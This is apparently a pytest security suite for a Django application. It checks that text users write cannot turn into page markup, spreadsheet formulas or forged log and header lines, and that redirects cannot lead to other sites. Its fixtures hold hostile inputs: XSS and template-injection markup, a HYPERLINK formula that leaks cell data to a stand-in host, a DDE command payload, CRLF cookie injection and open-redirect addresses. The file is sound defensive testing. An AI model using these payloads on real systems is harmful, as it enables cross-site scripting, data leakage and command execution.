"""What people write stays text: in pages, in files for spreadsheets, in addresses and in the log."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
from collections.abc import Iterator
from itertools import product
from typing import Any

import pytest
from django.test import Client
from lxml import html

from comity.exchange.models import Draft
from comity.people import delegating, journal
from comity.people.models import Account, Authority, Passkey
from comity.regime import REGISTERS, fields, lines
from comity.regime.acts import Act, Dated, Register
from comity.registers.entering import Entered, enter
from comity.web.pages.registers import as_cell
from tests.exchange.cast import NOW, known
from tests.people import cast
from tests.recorded import nothing_kept
from tests.security import routes
from tests.web.reading import text

pytestmark = pytest.mark.django_db

MARKUP = "<x-injected onmouseover=alert(1)>'\"></title></script></textarea><img src=x onerror=alert(1)>{{ 7|add:7 }}"
FORMULA = '=HYPERLINK("http://elsewhere.example/?leak="&A1,"open")'
FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0")


def _values(said: str, act: type[Act]) -> Iterator[dict[str, Any]]:
    """What an act may have in its fields, with these words in every text; each of its choices."""
    other: dict[str, Any] = {
        "date": "2016-09-05",
        "whole": 3,
        "yes": True,
        "state": "NLD",
        "party": "NLD",
        "digest": "0" * 64,
        "recipient": f"age1{'q' * 58}",
        "reference": "warrants/kony-2005",
        "values": {"note": "x"},
    }
    listed = []
    for field in fields.of(act):
        words = said[: field.longest] if getattr(field, "longest", 0) else said
        options = list(field.choices) if field.kind == "choice" else [other.get(field.kind, words)]
        listed.append([(field.name, [each] if field.many else each) for each in options])
    for chosen in product(*listed):
        yield dict(chosen)


def _written(register: Register, said: str) -> Dated | None:
    """An act of a register that opens a matter, with these words wherever it takes words; None where none is taken."""
    for kind in register.may_follow[None]:
        for with_all in (True, False):
            for values in _values(said, kind):
                kept = {f.name for f in fields.of(kind) if with_all or f.required or f.kind == "text"}
                line = {
                    "act": register.kind_of(kind),
                    "matter": f"written-{register.name}",
                    "dated": "2020-01-01",
                    "source": [said],
                    "note": said,
                    **{name: value for name, value in values.items() if name in kept},
                }
                read = lines.read(line, REGISTERS, said[:200])
                if isinstance(read, Dated):
                    with nothing_kept():
                        taken = isinstance(enter([read], now=NOW), Entered)
                    if taken:
                        return read
    return None


@pytest.fixture
def written(request: pytest.FixtureRequest) -> list[str]:
    """The registers with a matter in whose every text these words stand."""
    found = []
    for register in REGISTERS.values():
        act = _written(register, request.param)
        if act is not None and isinstance(enter([act], now=NOW), Entered):
            found.append(register.name)
    assert len(found) >= len(REGISTERS) - 2, set(REGISTERS) - set(found)
    return found


def _is_text(answer: Any, where: str) -> None:
    """Nothing of what was written became markup, and it stands in the page as it was written."""
    if not answer.get("Content-Type", "").startswith("text/html") or not text(answer):
        answer.close()
        return
    found: Any = html.fromstring(text(answer))
    assert not found.xpath("//x-injected"), where
    assert not found.xpath("//img[@onerror]"), where
    assert not [each for each in found.xpath("//@*") if each.attrname.startswith("on")], where
    assert "{{" not in text(answer).replace("{{ 7|add:7 }}", ""), where
    assert "14\n" not in text(answer) or "{{ 7|add:7 }}" in text(answer), where


@pytest.mark.parametrize("written", [MARKUP], indirect=True, ids=["markup"])
def test_no_text_of_an_act_becomes_markup(written: list[str]) -> None:
    browser, shown = Client(), 0
    asked = [route.address for route in routes.every()]
    asked += [f"/registers/{name}/{at}" for name in written for at in ("", f"written-{name}/", "?sort=-title")]
    asked += [f"/record/entries/{number}/" for number in range(1, len(written) + 1)]
    for address in asked:
        answer = browser.get(address)
        shown += b"&lt;x-injected" in getattr(answer, "content", b"")
        _is_text(answer, address)
    assert shown > 3 * len(written) - 5, "what was written stands in pages"


@pytest.mark.parametrize("words", [MARKUP, "'\"><x-injected>", "<x-injected>"])
def test_nothing_that_is_asked_becomes_markup(words: str) -> None:
    browser = cast.signed_in(cast.person("otp", "head"))
    names: tuple[str, ...] = (
        "words",
        "sort",
        "status",
        "kind",
        "state",
        "page",
        "as-at",
        "as-known",
        "from",
        "old",
        "new",
        "next",
    )
    names += ("group", "token", "before", "delivered", "beside", "again")
    for route in routes.every():
        if route.name != "sign-out":
            _is_text(browser.get(route.address, dict.fromkeys(names, words)), route.name)
            _is_text(browser.post(route.address, dict.fromkeys((*names, "email", "code", "name"), words)), route.name)
            browser = cast.signed_in(cast.person("otp", "head")) if "account" in route.address else browser


def test_no_name_of_people_authorities_drafts_or_keys_becomes_markup() -> None:
    known()
    head = cast.person("otp", "head")
    Authority.objects.filter(name="otp").update(title=MARKUP[:200])
    Account.objects.filter(pk=head.pk).update(name=MARKUP[:200])
    colleague = cast.person("otp", "officer", factor=False)
    Account.objects.filter(pk=colleague.pk).update(name=MARKUP[:200])
    Passkey.objects.create(account=head, credential="x", data=b"x", uses=0, name=MARKUP[:80], since=NOW)
    delegating.delegate(colleague, head, NOW.date(), NOW.date().replace(year=2027), by=MARKUP, now=NOW)  # type: ignore[arg-type]
    journal.note(head.authority, "listed", by=MARKUP, now=NOW, about=MARKUP, register="requests", matter="otp-x")
    line = {"to": MARKUP, "measure": MARKUP, "reference": MARKUP, "language": MARKUP, "sealed": [MARKUP]}
    draft = Draft.objects.create(authority=head.authority, by=head, matter="x", line=json.dumps(line), changed=NOW)
    browser, shown = cast.signed_in(head), 0
    for address in ("/account/", "/authorities/otp/", "/authorities/otp/journal/", "/exchange/drafts/"):
        answer = browser.get(address, headers={"User-Agent": MARKUP})
        shown += b"&lt;x-injected" in answer.content
        _is_text(answer, address)
    _is_text(browser.get(f"/exchange/drafts/{draft.pk}/"), "draft")
    assert shown == 4


def _cells(content: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(content)):
        yield from row


@pytest.mark.parametrize("written", [FORMULA], indirect=True, ids=["a formula"])
def test_no_cell_of_any_file_for_a_spreadsheet_is_a_formula(written: list[str]) -> None:
    files = [route.address for route in routes.every() if route.address.endswith(".csv")]
    files += [f"/registers/{name}.csv" for name in written]
    quoted = 0
    for address in files:
        said = text(Client().get(address))
        quoted += FORMULA in said.replace('""', '"')
        assert not [cell for cell in _cells(said) if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], address
    assert quoted > 5, "what was written stands in the files"


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_begins_like_a_formula_is_quoted(cell: str) -> None:
    assert as_cell(cell) == f"'{cell}"
    assert as_cell(f"x{cell}") == f"x{cell}"


LOGGED = ("/registers/x%0aERROR%20forged/", "/no%0d%0aSet-Cookie:%20session=x", "/papers/of/%0a%1b[2J/", "/%e2%80%a8x/")


@pytest.mark.parametrize("address", LOGGED)
def test_no_address_makes_a_line_of_the_log_or_of_the_headers(address: str, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.DEBUG):
        headers = {"User-Agent": "x\r\nforged", "X-Forwarded-For": "x\nforged", "Accept-Language": "x\nforged"}
        answer = Client(raise_request_exception=False).get(address, headers=headers)
    assert answer.status_code == 404
    for record in caplog.records:
        if record.name.startswith("django.") and "db" not in record.name:
            assert not re.search(r"[\r\n\x1b\u2028]", record.getMessage()), record
    assert not any(re.search(r"[\r\n]", f"{name}{value}") for name, value in answer.items())


@pytest.mark.parametrize(
    "address", ["//elsewhere.example/figures", "/\\elsewhere.example/figures", "//elsewhere.example/%2e%2e/figures"]
)
def test_a_slash_that_is_added_leads_nowhere_else(address: str) -> None:
    answer = Client().get(address)
    assert answer.status_code in (301, 404)
    assert not answer.get("Location", "/x").startswith(("//", "/\\", "http"))


def test_every_redirect_stays_here() -> None:
    browser = cast.signed_in(cast.person("otp", "head"))
    away = {"next": "//elsewhere.example", "on": "https://elsewhere.example", "back": "//elsewhere.example"}
    for route in routes.every():
        for answer in (
            Client().get(route.address, away),
            Client().post(route.address, away),
            browser.get(route.address, away),
            browser.post(route.address, away) if route.name != "sign-out" else Client().get("/"),
        ):
            there = answer.get("Location", "/")
            assert there.startswith("/"), route
            assert not there.startswith("//"), route
            answer.close()
